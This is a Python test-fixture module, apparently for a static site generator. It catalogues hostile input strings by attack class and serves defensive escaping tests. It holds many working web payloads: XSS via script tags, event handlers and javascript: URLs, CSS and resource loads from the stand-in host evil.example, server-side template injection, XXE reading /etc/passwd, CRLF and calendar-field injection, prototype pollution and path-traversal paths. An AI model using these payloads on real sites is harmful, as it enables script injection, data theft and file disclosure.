"""Hostile strings, by what each tries.

Whatever of them is read as a program says `alert`, `confirm`, `prompt` or `print`, or sets `poison`; whatever is
fetched is fetched from `evil.example`. So a browser can tell that one got through, and by which door.

They are for places where a plain text may stand and where Markdown may. What only Markdown could make active is in
`PROSE`; names of files are in `NAMES`, old addresses in `ADDRESSES`.
"""

from __future__ import annotations

TEXTS: dict[str, tuple[str, ...]] = {
    "raw HTML": (
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<script\x20type='module'>import('//evil.example/x.js')</script>",
        "<iframe src='javascript:alert(1)' srcdoc='<script>parent.alert(1)</script>'></iframe>",
        "<object data=//evil.example/x><param name=src value=javascript:alert(1)></object>",
        "<embed src='data:text/html,<script>alert(1)</script>'>",
        "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>",
        "<link rel=preconnect href=//evil.example><link rel=dns-prefetch href=//evil.example>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<meta http-equiv=refresh content='0;url=//evil.example/'>",
        "<style>@import '//evil.example/x.css';*{background:url(//evil.example/y)}</style>",
        "<form action=//evil.example/ id=f><button formaction=javascript:alert(1)>x</button></form><button form=f>y",
        "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
        "<svg><style><img src='</style><img src=x onerror=alert(1)//'></svg>",
        "<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s><set attributeName=href to=javascript:alert(1)>",
        "<textarea></textarea><img src=x onerror=alert(1)><title></title><img src=x onerror=alert(1)>",
        "<plaintext><xmp><listing><!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]><?xml-stylesheet href='//evil.example/x.css'?>",
        "<dialog open><select autofocus onfocus=alert(1)><keygen><isindex type=image src=1 onerror=alert(1)>",
    ),
    "event handlers": (
        "<img src=x onerror=alert(1)>",
        "<img/src=x\nonerror\n=\nalert(1)>",
        "<a/onclick=alert(1)/onmouseover=alert(1)>x</a>",
        "<details open ontoggle=alert(1)><summary onfocus=alert(1) tabindex=0>x</summary></details>",
        "<input autofocus onfocus=alert(1)><body onload=alert(1)><video onloadstart=alert(1) src=x>",
        "<p style='animation:x' onanimationstart=alert(1) onpointerenter=prompt(1) oncontentvisibilityautostatechange=alert(1)>x",
    ),
    "out of an attribute": (
        '" onmouseover="alert(1)" onfocus="alert(1)" autofocus tabindex="0" x="',
        "' onmouseover='alert(1)' onfocus='alert(1)' autofocus tabindex='0' x='",
        "` onmouseover=alert(1) x=`",
        "x onmouseover=alert(1) y",
        '"><img src=x onerror=alert(1)>',
        "'><svg onload=alert(1)>",
        "</title></textarea></style></noscript></template></script><img src=x onerror=alert(1)>",
        "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;",
        "&#34; onmouseover=&#34;alert(1)",
    ),
    "addresses that act": (
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)//",
        "javascript&colon;alert(1)",
        "&#x6A;avascript&#58;alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "java&Tab;script&NewLine;:alert(1)",
        "\u00a0javascript:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "//evil.example/x",
        "https:evil.example",
        "\\\\evil.example\\x",
        "/\\evil.example/",
        "https://small.example.org@evil.example/",
        "blob:https://evil.example/1",
        "file:///etc/passwd",
        'https://evil.example/"onmouseover=alert(1) x="',
        "https://evil.example/'onmouseover=alert(1)//",
        "https://evil.example/?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
        "mailto:a@evil.example?bcc=b@evil.example&body=x",
        "a?bcc=evil.example&body=x@small.example.org",
        "a&bcc=x@small.example.org",
        '"<img src=x onerror=alert(1)>"@small.example.org',
        "a@small.example.org\r\nBcc: b@evil.example",
        "tel:+1;ext=<script>alert(1)</script>",
    ),
    "scripts that hold data": (
        "</script><script>alert(1)</script>",
        "<!--<script>alert(1)</script>-->",
        "\u2028alert(1)\u2029",
        '"}</script><script>poison=1</script>{"',
        '\\"};poison=1;//',
        '{"__proto__":{"poison":1}}',
        "constructor.prototype.poison",
        "__proto__",
        "]]>",
        "]]]]><![CDATA[>",
    ),
    "templates": (
        "{{ 7 * 7 }}{{ self.__init__.__globals__ }}{% include '/etc/passwd' %}{# x",
        "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %> #{alert(1)}",
        "%s %(x)s {0} {x} {} {0.__class__} %1000000000d",
    ),
    "style sheets": (
        "red;}*{background:url(//evil.example/x)}",
        "expression(alert(1))",
        "url(//evil.example/x)",
        "\\75rl(//evil.example/x)",
        "red/**/;background:url(//evil.example/x)",
        "-moz-binding:url(//evil.example/x#y)",
        "</style><script>alert(1)</script>",
        "@import '//evil.example/x.css';",
        "image-set('//evil.example/x' 1x)",
        "var(--x,url(//evil.example/x))",
    ),
    "calendars and cards": (
        "x\r\nATTACH:https://evil.example/x\r\nX-POISON:1",
        "x\nEND:VEVENT\nBEGIN:VEVENT\nUID:poison\nSUMMARY:poison\nEND:VEVENT",
        "x\\nATTACH:https://evil.example/x",
        'x";CN="y":mailto:b@evil.example',
        "x;VALUE=URI:https://evil.example/,y\\,z\\;",
        "x\u2028ATTACH:https://evil.example/x\u0085X-POISON:1",
        "x\nEND:VCARD\nBEGIN:VCARD\nFN:poison",
        "x^nX-POISON:1^'y",
        "\u00e9" * 40 + "\U0001f4a3" * 40,
    ),
    "feeds": (
        "</title><link href='https://evil.example/' rel='self'/><title>",
        "<![CDATA[x]]></content><entry><id>poison</id></entry>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
        "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
        "x\x00y\x08z\x1b[2J\x7f",
        "\ufffe\uffff\U0001fffe",
    ),
    "hosts' files": (
        "x\n/* https://evil.example/:splat 301!",
        "x\n/*\n  Content-Security-Policy: default-src *",
        "/* /evil 200",
        "https://evil.example/:splat 301",
        "x\r\nDisallow: /\r\nSitemap: https://evil.example/",
    ),
    "names of the page": (
        "site-main",
        "body",
        "__proto__[poison]",
        "toString",
        "location",
    ),
    "unseen": (
        "a\u202egnp.exe\u202c",
        "\u2066x\u2069\u200e\u200f",
        "\x00<script>alert(1)</script>",
        "<scr\x00ipt>alert(1)</scr\x00ipt>",
        "\ufeff<script>alert(1)</script>",
        "\ud800",
    ),
}

# What only Markdown, or the HTML within it, could make something of.
PROSE: dict[str, tuple[str, ...]] = {
    "links that act": (
        "[x](javascript:alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x](java\tscript:alert(1))",
        "[x](&#x6A;avascript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](java&NewLine;script:alert(1))",
        "[x](\x01javascript:alert(1))",
        "[x](JAVASCRIPT://%0aalert(1))",
        "[x](vbscript:msgbox(1)) ![x](javascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "<javascript:alert(1)> <javascript://x@y%0aalert(1)>",
        "[x][y]\n\n[y]: javascript:alert(1)",
        "[x][z]\n\n[z]: <java&#10;script:alert(1)> 'x'",
        "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
        '<a href="&#1;javascript:alert(1)">x</a> <a href="javas&#x09;cript:alert(1)">y</a>',
        "<a href=javascript&#58;alert(1)>x</a>",
        "<a href='https://evil.example/' target=_blank ping='//evil.example/p' rel=opener>x</a>",
        "[x](//evil.example/x) <https://evil.example/y> https://evil.example/z",
        "[x](/\\evil.example) [y](\\\\evil.example)",
        "<area href=javascript:alert(1)><map name=m><area shape=rect href=javascript:alert(1)></map>",
    ),
    "attribute lists": (
        "x\n{: onclick=alert(1) onmouseover='alert(1)' style='background:url(//evil.example/x)' }",
        "## x {: #site-main onclick=alert(1) .search }",
        "[x](/events/){: href=javascript:alert(1) onclick=alert(1) }",
        "*x*{: onmouseover=alert(1) data-filter=x data-ends=1 data-vault=x }",
        '![x](/media/hall.png){: onerror=alert(1) src=x srcset="//evil.example/x 1x" }',
        "~~~ { .x onclick=alert(1) }\n<script>alert(1)</script>\n~~~",
        "``` <img src=x onerror=alert(1)>\nx\n```",
        "| x {: onclick=alert(1) } | <img src=x onerror=alert(1)> |\n|---|:-:|\n| [x](/events/){: onclick=alert(1) } | `<script>` |",
    ),
    "other syntax": (
        "x[^1]\n\n[^1]: <img src=x onerror=alert(1)> [y](/events/){: onclick=alert(1)}",
        'x[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: y',
        "Term <img src=x onerror=alert(1)>\n: definition <svg onload=alert(1)>",
        '*[HTML]: "><img src=x onerror=alert(1)>\n\nHTML',
        "<div markdown=1 onclick=alert(1)>\n<script markdown=1>alert(1)</script>\n*x*\n</div>",
        "\x02stx\x03 \x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03",
        "stx0etx wzxhzdk:0 klzzwxh:0000 &#2;klzzwxh:0000&#3;",
        "<!-- --!><img src=x onerror=alert(1)> --> <!--> <img src=x onerror=alert(1)> -->",
        "`` <script>alert(1)</script> ``<script>alert(1)</script>",
        "    <script>alert(1)</script>\n\n<pre><code class='\"><img src=x onerror=alert(1)>'>x</code></pre>",
        "# <img src=x onerror=alert(1)>\n\n> <svg/onload=alert(1)>\n\n1. <iframe src=//evil.example>\n",
        "<abbr title='\"><img src=x onerror=alert(1)>'>x</abbr>",
    ),
    "what a page loads": (
        "![x](https://evil.example/x.png)",
        "<img src=https://evil.example/x.png srcset='//evil.example/y.png 2x' alt=x>",
        "<picture><source srcset=//evil.example/x.webp><img src=//evil.example/x.png alt=x></picture>",
        "<video src=https://evil.example/x.mp4 poster=https://evil.example/x.png controls autoplay></video>",
        "<audio src=https://evil.example/x.mp3 controls preload=auto></audio>",
        "<video controls><source src=https://evil.example/x.webm type=video/webm>"
        "<track src=https://evil.example/x.vtt default></video>",
        "<table background=//evil.example/x><tr><td background=//evil.example/y style='background:url(//evil.example/z)'>x</table>",
        "<img src=/media/hall.png usemap=#m longdesc=//evil.example/ dynsrc=//evil.example/ lowsrc=//evil.example/ alt=x>",
        "<blockquote cite=//evil.example/>x</blockquote><q cite=javascript:alert(1)>y</q><ins cite=//evil.example/>z</ins>",
        "<p style=\"background:url('//evil.example/x');text-align:center\">x</p><font color=url(//evil.example)>y</font>",
    ),
    "names of the page": (
        "<a id=site-main name=site-main>x</a><p id=location>x</p><p id=body>x</p><p id=forms>y</p>",
        "<img name=getElementById src=/media/hall.png alt=x><img name=cookie id=cookie src=/media/hall.png alt=x>",
        "<div id=documentElement><a id=head href=//evil.example/>x</a></div><p id=currentScript>x</p>",
        "<p id='\" onclick=alert(1) x=\"' class='\"><script>alert(1)</script>'>x</p>",
        '## location\n\n## __proto__\n\n## toString\n\n## "><img src=x onerror=alert(1)>',
    ),
    "the theme's own hooks": (
        '<div class="search" data-index=//evil.example/ data-pagefind=//evil.example/x.js><output></output></div>',
        '<section data-upcoming><ul><li data-ends="2000-01-01" data-begins=x><p class="p-category today">x</p></li></ul></section>',
        '<div data-filter="x"><ul><li>x</li></ul></div><p data-closes="2000-01-01" data-clock=x>x</p>',
        '<div data-vault="//evil.example/bundle.bin"><form><input type=password></form><p role=status>x</p></div>',
        "<p class='skip masthead ribbon unseen filter foot' role=alert aria-hidden=true tabindex=-1 contenteditable>x</p>",
    ),
}

# Names of files and folders, as far as a disk has them: no slash, no NUL.
NAMES = (
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "<svg onload=alert(1)>",
    "a b&c;d=e,f",
    "x%0aX-Poison: 1",
    "%2e%2e%2f%2e%2e%2fx",
    "..%2fx",
    "x:splat *",
    "{{ 7 * 7 }}",
    "a#b?c",
    "__proto__",
    "a\\b",
)

# What an alias, an id or a path in the site could be made of (libraries.md, A2.3).
ADDRESSES = (
    "../up", "/../up", "..%2fup", "/%2e%2e/up", "/%2e%2e%2fup", "/..%5cup", "..\\up", "\\up", "//evil.example/x",
    "///evil.example", "/\\evil.example", "https://evil.example/x", "//evil.example\\@small.example.org/", "C:/up",
    "C:\\up", "/x%00y", "/x\x00y", "/./x", "/x/./y", "/x/../../y", "/x\ny /z 200", "/x\r\n/* /y", "/x /y", "/*",
    "/:splat", "/x?y=z", "/x#y", "/x y", "/x\ty", "/\u202ex", "/x;y", "/x,y", "/x\"y", "/x'y", "/<x>", "/x%0a/y",
    "/x%0d%0aSet-Cookie:y", "/x%20/y", "/x%2a", "/%3ascript", "javascript:alert(1)", "/javascript:alert(1)", "~",
    "/_redirects", "/_headers", "/index.html", "/", "", ".", "..", "/.git/config", "/.htaccess", "/con", "/aux.html",
    "/NUL/", "/lpt1.", "/x.", "/x%2e", "/x%20", "/EVENTS", "/Events/", "/feed.xml", "/feed.xml/x", "/calendar.ics",
    "/media/hall.png", "/assets/x", "/cards/x", "/inside/x", "/404.html", "/robots.txt",
)  # fmt: skip


def strings(of_prose: bool) -> tuple[str, ...]:
    """The strings for a place, one class after another."""
    classes = (*TEXTS.values(), *(PROSE.values() if of_prose else ()))
    plain = tuple(string for one in classes for string in one)
    return tuple(dict.fromkeys((*plain, *map(with_picture, plain)))) if of_prose else plain


def with_picture(string: str) -> str:
    """The same with a picture that is there: one that is not is refused in prose."""
    return string.replace("src=x", "src=/media/hall.png onload=alert(1)")
